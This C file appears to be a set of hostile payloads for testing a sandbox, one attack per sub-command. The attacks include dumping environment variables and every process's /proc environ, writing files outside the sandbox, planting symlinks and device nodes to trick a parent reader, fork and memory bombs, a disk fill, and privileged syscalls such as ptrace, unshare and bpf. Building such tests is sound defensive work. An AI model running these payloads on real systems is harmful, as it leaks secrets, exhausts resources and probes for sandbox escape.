/* Hostile payloads for the sandbox corpus (tests/sandbox/test_hostile.py).
 *
 * One program, one attack per sub-command, compiled once inside the sandbox. Every attack prints
 * what it obtained to stdout (so a leak would show in the run's output) and the errno of what
 * was refused to stderr. Exit status: 0 the attack ran to its end, 1 refused with EPERM, 2
 * refused with another error. Never run this outside the sandbox.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

extern char** environ;

static int refused(const char* what) {
  int e = errno;
  fprintf(stderr, "%s: %s (%s)\n", what, strerror(e), e == EPERM ? "EPERM" : "other");
  return e == EPERM ? 1 : 2;
}

static void dump_file(const char* path) {
  char buf[65536];
  int fd = open(path, O_RDONLY);
  if (fd < 0) {
    refused(path);
    return;
  }
  ssize_t n;
  printf("== %s\n", path);
  while ((n = read(fd, buf, sizeof buf)) > 0) {
    for (ssize_t i = 0; i < n; ++i) putchar(buf[i] ? buf[i] : '\n');
  }
  putchar('\n');
  close(fd);
}

static int net(int family, const char* addr, int port) {
  int s = socket(family, SOCK_STREAM, 0);
  if (s < 0) return refused("socket");
  int rc;
  if (family == AF_INET) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    inet_pton(AF_INET, addr, &a.sin_addr);
    rc = connect(s, (struct sockaddr*)&a, sizeof a);
  } else {
    struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons((unsigned short)port)};
    inet_pton(AF_INET6, addr, &a.sin6_addr);
    rc = connect(s, (struct sockaddr*)&a, sizeof a);
  }
  if (rc < 0) return refused("connect");
  printf("connected to %s:%d\n", addr, port);
  return 0;
}

static int unix_connect(const char* path, int abstract) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (s < 0) return refused("socket(AF_UNIX)");
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  socklen_t len;
  if (abstract) {
    strncpy(a.sun_path + 1, path, sizeof a.sun_path - 2);
    len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(path));
  } else {
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    len = sizeof a;
  }
  if (connect(s, (struct sockaddr*)&a, len) < 0) return refused("connect(AF_UNIX)");
  const char msg[] = "hello from the sandbox\n";
  if (write(s, msg, sizeof msg - 1) < 0) return refused("write");
  printf("connected to unix socket %s\n", path);
  return 0;
}

static int read_secrets(int argc, char** argv) {
  for (char** e = environ; *e; ++e) printf("env %s\n", *e);
  dump_file("/proc/1/environ");
  dump_file("/proc/self/environ");
  dump_file("/proc/1/cmdline");
  DIR* d = opendir("/proc");
  struct dirent* de;
  while (d && (de = readdir(d)) != NULL) {
    char p[300];
    if (de->d_name[0] < '0' || de->d_name[0] > '9') continue;
    snprintf(p, sizeof p, "/proc/%s/environ", de->d_name);
    dump_file(p);
  }
  if (d) closedir(d);
  int rc = 0;
  for (int i = 0; i < argc; ++i) {
    int fd = open(argv[i], O_RDONLY);
    if (fd < 0) {
      rc = refused(argv[i]);
      continue;
    }
    close(fd);
    dump_file(argv[i]);
  }
  return rc;
}

static int write_outside(int argc, char** argv) {
  int rc = 0;
  for (int i = 0; i < argc; ++i) {
    int fd = open(argv[i], O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) {
      rc = refused(argv[i]);
      continue;
    }
    if (write(fd, "pwned\n", 6) != 6) rc = refused(argv[i]);
    close(fd);
    printf("wrote %s\n", argv[i]);
  }
  return rc;
}

static int plant_links(const char* secret) {
  /* Each of these would make a naive parent-side reader disclose or hang. */
  if (symlink("/etc/hostname", "/out/results.json") < 0) return refused("symlink results.json");
  if (symlink(secret, "/out/x") < 0) return refused("symlink x");
  if (symlink("/", "/out/root") < 0) return refused("symlink root");
  FILE* f = fopen("/out/a.json", "w");
  if (!f) return refused("/out/a.json");
  fputs("{\"pnl\": 1, \"trades\": 1}", f);
  fclose(f);
  if (link("/out/a.json", "/out/hard.json") < 0) return refused("link hard.json");
  if (mkfifo("/out/fifo.json", 0644) < 0) return refused("mkfifo");
  if (mknod("/out/dev.json", S_IFCHR | 0644, makedev(1, 3)) < 0) refused("mknod");
  puts("planted");
  return 0;
}

static int fork_bomb(void) {
  pid_t leader = getpid();
  int failures = 0;
  for (;;) {
    pid_t p = fork();
    if (p < 0 && getpid() == leader && ++failures > 100) {
      fprintf(stderr, "fork: %s after the process limit\n", strerror(errno));
      return 2;
    }
  }
}

static int memory_bomb(void) {
  size_t total = 0;
  for (;;) {
    char* p = malloc(16u << 20);
    if (!p) return refused("malloc");
    memset(p, 0x5a, 16u << 20);
    total += 16u << 20;
    if (total > (64ull << 30)) return 0;
  }
}

static int fill(const char* path) {
  static char block[1 << 20];
  memset(block, 'x', sizeof block);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return refused(path);
  for (;;) {
    if (write(fd, block, sizeof block) < 0) return refused("write");
  }
}

static int flood(void) {
  static char block[65536];
  memset(block, 'A', sizeof block);
  for (;;)
    if (fwrite(block, 1, sizeof block, stdout) != sizeof block) return 2;
}

static long call(const char* name) {
  if (!strcmp(name, "unshare")) return syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET);
  if (!strcmp(name, "clone-newuser")) {
    long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (r == 0) _exit(0);
    return r;
  }
  if (!strcmp(name, "ptrace")) return syscall(SYS_ptrace, PTRACE_ATTACH, 1, 0, 0);
  if (!strcmp(name, "mount")) return syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, 0);
  if (!strcmp(name, "setns")) {
    int fd = open("/proc/self/ns/net", O_RDONLY);
    return syscall(SYS_setns, fd, 0);
  }
  if (!strcmp(name, "bpf")) {
    char attr[128] = {0};
    return syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, attr, sizeof attr);
  }
  if (!strcmp(name, "io_uring_setup")) {
    char params[120] = {0};
    return syscall(SYS_io_uring_setup, 8, params);
  }
  if (!strcmp(name, "keyctl")) return syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 0);
  if (!strcmp(name, "perf_event_open")) {
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
  }
  if (!strcmp(name, "userfaultfd")) return syscall(SYS_userfaultfd, 0);
  if (!strcmp(name, "process_vm_readv")) return syscall(SYS_process_vm_readv, 1, 0, 0, 0, 0, 0);
  if (!strcmp(name, "socket-packet")) return socket(AF_PACKET, SOCK_RAW, 0);
  if (!strcmp(name, "socket-netlink")) return socket(AF_NETLINK, SOCK_RAW, 0);
  fprintf(stderr, "unknown syscall case %s\n", name);
  exit(3);
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) return 3;
  const char* cmd = argv[1];
  if (!strcmp(cmd, "hello")) return puts("hello") < 0;
  if (!strcmp(cmd, "tcp4")) return net(AF_INET, "127.0.0.1", atoi(argv[2]));
  if (!strcmp(cmd, "tcp6")) return net(AF_INET6, "::1", atoi(argv[2]));
  if (!strcmp(cmd, "unix")) return unix_connect(argv[2], 0);
  if (!strcmp(cmd, "abstract")) return unix_connect(argv[2], 1);
  if (!strcmp(cmd, "secrets")) return read_secrets(argc - 2, argv + 2);
  if (!strcmp(cmd, "write")) return write_outside(argc - 2, argv + 2);
  if (!strcmp(cmd, "links")) return plant_links(argv[2]);
  if (!strcmp(cmd, "forkbomb")) return fork_bomb();
  if (!strcmp(cmd, "membomb")) return memory_bomb();
  if (!strcmp(cmd, "fill")) return fill(argv[2]);
  if (!strcmp(cmd, "sleep")) for (;;) pause();
  if (!strcmp(cmd, "spin")) for (volatile unsigned long i = 0;; ++i) {}
  if (!strcmp(cmd, "spin-noxcpu")) { /* survives the soft limit: the hard limit's SIGKILL ends it */
    signal(SIGXCPU, SIG_IGN);
    for (volatile unsigned long i = 0;; ++i) {}
  }
  if (!strcmp(cmd, "flood")) return flood();
  if (!strcmp(cmd, "syscall")) {
    long r = call(argv[2]);
    if (r < 0) return refused(argv[2]);
    printf("%s succeeded (%ld)\n", argv[2], r);
    return 0;
  }
  return 3;
}
